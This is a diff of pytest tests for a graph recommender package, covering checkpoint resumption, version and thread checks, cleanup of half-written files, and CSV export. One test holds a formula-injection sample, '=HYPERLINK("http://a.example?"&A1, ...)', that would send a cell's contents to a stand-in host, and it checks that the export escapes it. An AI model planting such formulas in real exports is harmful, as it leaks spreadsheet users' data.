@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import csv
+import importlib.metadata
 import json
+import re
 import sys
+from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
@@ -14,14 +17,17 @@ from torch_geometric.data import HeteroData
 
 import dgmrec_pyg
 from dgmrec_pyg.errors import UserError
+from dgmrec_pyg.files import atomic_path, unfinished_files
 from dgmrec_pyg.nn import Popularity
 from dgmrec_pyg.rundir import RunDirectory
 from dgmrec_pyg.schema import training_edges
+from dgmrec_pyg.training import load_checkpoint
 
 DESCRIPTION: dict[str, Any] = {
-    'run': {'model': 'dgmrec', 'seed': 0, 'device': 'cpu', 'root': 'data'},
+    'run': {'model': 'dgmrec', 'seed': 0, 'device': 'cpu', 'root': 'data', 'deterministic': False},
     'model': {'knn_k': 10, 'imputation': 'mean'},
     'training': {'epochs': 5, 'learning_rate': 0.001},
+    'compare': {'lightgcn': {'num_layers': 3}},
     'data': {'hash': 'abc', 'modalities': {'image': 8}},
 }
 RECORDS = [{'epoch': epoch, 'loss': 1.0 / epoch, 'val': None if epoch == 2 else {'recall@20': 0.1 * epoch}}
@@ -182,6 +188,103 @@ def test_another_run_is_refused(path: Path, description: dict[str, Any], message
     assert contents(path) == before
 
 
+@pytest.mark.parametrize(('description', 'message'), [
+    (changed('training', learning_rate=0.1), r'learning_rate 0.1 \(training\), now it is 0.001'),
+    (changed('data', hash='def'), r"hash 'def' \(data\), now it is 'abc'"),
+    (changed('model', older=1), r'older 1 \(model\), now it is None'),
+    (changed('run', deterministic=True), r'deterministic True \(run\), now it is False'),
+])
+def test_a_checkpoint_of_another_run_is_refused(path: Path, tmp_path: Path, description: dict[str, Any],
+                                                message: str) -> None:
+    """Even where it lies in the folder of this one."""
+    other = RunDirectory(tmp_path / 'other')
+    other.open(description)
+    other.save_state(STATE)
+    (other.path / 'checkpoint.pt').replace(path / 'checkpoint.pt')
+    before = contents(path)
+    with pytest.raises(UserError, match=rf"checkpoint '.*checkpoint.pt' was made with {message}; give the same"):
+        RunDirectory(path, resume=True).state_to_resume(DESCRIPTION)
+    assert contents(path) == before
+
+
+def test_a_run_of_another_version_is_refused(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    version = importlib.metadata.version('torch')
+    monkeypatch.setattr('importlib.metadata.version', lambda library: '99.1' if library == 'torch' else '1.0')
+    with pytest.raises(UserError, match=rf"was made with torch '{re.escape(version)}' \(versions\), now it is '99.1'"):
+        RunDirectory(path, resume=True).state_to_resume(DESCRIPTION)
+
+
+@pytest.mark.parametrize('deterministic', [True, False])
+def test_the_number_of_threads_matters_to_a_deterministic_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                              deterministic: bool) -> None:
+    description = changed('run', deterministic=deterministic)
+    output = RunDirectory(tmp_path / 'run')
+    output.open(description)
+    output.save_state(STATE)
+    assert json.loads((output.path / 'config.json').read_text())['threads'] == torch.get_num_threads()
+    monkeypatch.setattr('torch.get_num_threads', lambda: 77)
+    resumed = RunDirectory(output.path, resume=True)
+    if deterministic:
+        with pytest.raises(UserError, match=r'made with threads \d+ \(run\), now it is 77'):
+            resumed.state_to_resume(description)
+    else:
+        assert resumed.state_to_resume(description) is not None
+
+
+def test_a_damaged_checkpoint_gives_way_and_is_not_kept(path: Path) -> None:
+    first = RunDirectory(path, resume=True)
+    first.open(DESCRIPTION)
+    first.save_state({'fit': {'epoch': 3, 'records': RECORDS}})
+    (path / 'checkpoint.pt').write_bytes(b'damaged')
+    output = RunDirectory(path, resume=True)
+    with pytest.warns(UserWarning, match="going on from the previous one, 'checkpoint.previous.pt'"):
+        state = output.state_to_resume(DESCRIPTION)
+    assert state is not None
+    assert state['fit'] == STATE['fit']
+    output.open(DESCRIPTION, state['fit']['records'])
+    assert load_checkpoint(path / 'checkpoint.pt')['fit'] == STATE['fit']
+    output.save_state({'fit': {'epoch': 3}})
+    assert load_checkpoint(path / 'checkpoint.previous.pt')['fit'] == STATE['fit']
+
+
+def test_checkpoints_of_models_to_compare_with(path: Path) -> None:
+    output = RunDirectory(path, resume=True)
+    assert output.state_to_resume(DESCRIPTION, 'lightgcn') is None
+    output.open(DESCRIPTION)
+    output.save_state({'fit': {'epoch': 7}}, 'lightgcn')
+    again = RunDirectory(path, resume=True)
+    for compared, epoch in ((None, 2), ('lightgcn', 7)):
+        state = again.state_to_resume(DESCRIPTION, compared)
+        assert state is not None
+        assert state['fit']['epoch'] == epoch
+    other = {**DESCRIPTION, 'compare': {'lightgcn': {'num_layers': 2}, 'bprmf': {}}}
+    assert again.state_to_resume(other, 'bprmf') is None  # it was not compared with
+    with pytest.raises(UserError, match=r'made with num_layers 3 \(model\), now it is 2'):
+        again.state_to_resume(other, 'lightgcn')
+
+
+def test_what_a_killed_process_was_writing_is_cleared_up(path: Path, tmp_path: Path) -> None:
+    new = tmp_path / 'new'
+    new.mkdir()
+    for folder in (path, new):  # a run to resume, and one that was killed before it had written anything
+        with suppress(RuntimeError), atomic_path(folder / 'checkpoint.pt') as temporary:
+            left = temporary.with_stem(f'{temporary.stem}x')
+            left.write_bytes(b'half')
+            raise RuntimeError
+        assert unfinished_files(folder) == {left}
+        RunDirectory(folder, resume=folder == path).open(DESCRIPTION)
+        assert unfinished_files(folder) == set()
+        assert (folder / 'config.json').is_file()
+
+
+def test_a_failure_is_kept(tmp_path: Path) -> None:
+    output = RunDirectory(tmp_path / 'run')
+    output.open(DESCRIPTION)
+    output.save_failure({'failure': {'step': 3}})
+    output.discard_unused()
+    assert load_checkpoint(output.path / 'failure.pt')['failure'] == {'step': 3}
+
+
 @pytest.mark.parametrize('content', ['', '{"run": {}}', '[]', '{"run": 1, "model": 2, "training": 3, "data": 4}', 'a'])
 def test_damaged_config(path: Path, content: str) -> None:
     (path / 'config.json').write_text(content)
@@ -235,6 +338,17 @@ def test_recommendations_under_raw_ids_and_names(path: Path, small_data: HeteroD
     assert header == ['user', 'rank', 'item', 'score', 'name']
     assert all(name == f'"The {item[1:]}", größer\n' for _, _, item, _, name in body)
     assert {row[0] for row in body} == set(small_data.raw_id['user'])
+
+
+def test_recommendations_hold_no_formulas(path: Path, small_data: HeteroData) -> None:
+    small_data.raw_id = {'user': [f'=u{i}' for i in range(30)],
+                         'item': [f'-{i}' if i % 2 else f'+{i}+1' for i in range(40)]}
+    small_data.item_name = ['=HYPERLINK("http://a.example?"&A1, "click")'] * 40
+    RunDirectory(path, resume=True).finish({}, Popularity.from_data(small_data), small_data, [])
+    body = rows(path)[1:]
+    assert {user[:2] for user, *_ in body} == {"'="}
+    assert {item[:1] for _, _, item, _, _ in body} == {"'", '-'}  # a negative number stays one
+    assert {name[:2] for *_, name in body} == {"'="}
 
 
 def test_fewer_items_than_places(path: Path, small_data: HeteroData) -> None:
